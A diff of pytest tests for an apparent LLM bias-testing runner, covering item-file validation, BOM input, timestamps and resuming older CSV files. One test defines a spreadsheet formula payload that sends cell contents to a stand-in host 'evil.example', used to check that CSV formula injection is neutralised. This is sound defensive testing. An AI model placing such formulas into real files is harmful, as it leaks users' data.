@@ -3,12 +3,15 @@
 from __future__ import annotations
 
 import csv
+import datetime
 import json
 import math
+import re
 
 import pytest
 
-from backend.bias_items import EXPORT_COLUMNS, load_items
+from backend import bias_report
+from backend.bias_items import DEFAULT_ITEMS_PATH, EXPORT_COLUMNS, IDENTIFIER_COLUMNS, load_items
 from backend.bias_runner import main, output_path, plan_jobs, run_tests
 from backend.llm import LLMSettings
 from backend.llm.fake_server import Reply
@@ -165,3 +168,87 @@ def test_command_line_scripted_run_and_its_errors(tmp_path, capsys):
     with pytest.raises(SystemExit):
         main(["--model", "scripted", "--out", str(foreign), "--quiet"])
     assert "does not have the bias export columns" in capsys.readouterr().err
+
+
+# --- the item file and the output file as a researcher meets them ------------------------------------------------
+def test_the_runner_refuses_the_item_files_the_app_refuses_and_accepts_a_windows_bom(tmp_path, capsys):
+    data = json.loads(DEFAULT_ITEMS_PATH.read_text(encoding="utf-8"))
+    data["items"][0].update(options=[150, 250.5, 350], option_format="{value:d} loaves")
+    broken = tmp_path / "broken.json"
+    broken.write_text(json.dumps(data), encoding="utf-8")
+    with pytest.raises(SystemExit) as raised:
+        main(["--model", "scripted", "--items", str(broken), "--out", str(tmp_path), "--quiet"])
+    assert raised.value.code == 2
+    assert (
+        "broken.json: items[0] (anchoring_bakery).option_format: '{value:d} loaves' cannot show the option 250.5"
+    ) in capsys.readouterr().err
+    assert not list(tmp_path.glob("*.csv"))  # refused before a single call or row
+
+    bom = tmp_path / "bom.json"
+    bom.write_bytes(b"\xef\xbb\xbf" + DEFAULT_ITEMS_PATH.read_bytes())
+    assert main(["--model", "scripted", "--items", str(bom), "--out", str(tmp_path), "--quiet"]) == 0
+    assert len(read(output_path(tmp_path, "scripted", ITEMS))) == PER_RUN
+
+
+FORMULA_REPLY = '=HYPERLINK("http://evil.example/?leak="&A1,"click") ' + YES_NO_REPLY
+
+
+def test_a_reply_starting_with_a_formula_is_neutralised_in_the_file_and_read_back_exactly(
+    llm_server, tmp_path, monkeypatch
+):
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-not-a-real-key")
+    loss = ITEMS.item("loss_pilot_route").scenario
+
+    def formula_for_one_item(request):
+        prompt = request["messages"][1]["content"]
+        return FORMULA_REPLY if loss in prompt else good_reply(prompt)
+
+    llm_server.responder = formula_for_one_item
+    settings = settings_for(llm_server)
+    first = run_async(run_tests(ITEMS, settings, out_dir=tmp_path))
+    assert first.complete
+    # Twice more: resuming reads the kept rows back and writes them again, which must not add a second quote.
+    for _ in range(2):
+        assert run_async(run_tests(ITEMS, settings, out_dir=tmp_path)).kept == PER_RUN
+    cell = next(row for row in read(first.path) if row["item_id"] == "loss_pilot_route")["raw_reply"]
+    assert cell == "'" + FORMULA_REPLY  # a spreadsheet shows it as text and runs nothing
+
+    rows = bias_report.read_rows([first.path])
+    reply = rows.loc[rows["item_id"] == "loss_pilot_route", "raw_reply"].tolist()
+    assert reply == [FORMULA_REPLY]
+    assert bias_report.summarise(rows)["metrics"]["loss_aversion"]["test-model"]["tests"] == 3
+
+
+def test_runner_rows_carry_the_answer_time_and_empty_participant_identifiers(tmp_path):
+    started = datetime.datetime.now(datetime.UTC)
+    assert main(["--model", "scripted", "--out", str(tmp_path), "--quiet"]) == 0
+    rows = read(output_path(tmp_path, "scripted", ITEMS))
+    for row in rows:
+        assert (row["participant_code"], row["prolific_pid"], row["study_id"], row["session_code"]) == ("", "", "", "")
+        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", row["answered_at"]), row["answered_at"]
+        answered = datetime.datetime.fromisoformat(row["answered_at"].replace("Z", "+00:00"))
+        assert started - datetime.timedelta(seconds=1) <= answered <= datetime.datetime.now(datetime.UTC)
+
+
+def test_a_file_from_before_the_identifier_columns_is_resumed_and_rewritten_with_them(tmp_path):
+    assert main(["--model", "scripted", "--out", str(tmp_path), "--quiet"]) == 0
+    path = output_path(tmp_path, "scripted", ITEMS)
+    rows = read(path)
+    old_columns = [column for column in EXPORT_COLUMNS if column not in IDENTIFIER_COLUMNS]
+    with path.open("w", encoding="utf-8", newline="") as handle:  # as the runner wrote it before, minus 3 answers
+        writer = csv.DictWriter(handle, fieldnames=old_columns, extrasaction="ignore")
+        writer.writeheader()
+        writer.writerows(rows[:-3])
+    assert len(bias_report.read_rows([path])) == PER_RUN - 3  # the report reads the old file as it is
+
+    assert main(["--model", "scripted", "--out", str(tmp_path), "--quiet"]) == 0
+    assert path.read_text(encoding="utf-8").splitlines()[0] == ",".join(EXPORT_COLUMNS)
+    resumed = read(path)
+    assert len(resumed) == PER_RUN
+    kept = {(row["item_id"], row["version"]): row for row in resumed[: PER_RUN - 3]}
+    for row in rows[:-3]:
+        assert {key: kept[(row["item_id"], row["version"])][key] for key in old_columns} == {
+            key: row[key] for key in old_columns
+        }
+    assert [row["answered_at"] for row in resumed[: PER_RUN - 3]] == [""] * (PER_RUN - 3)
+    assert all(row["answered_at"] for row in resumed[PER_RUN - 3 :])
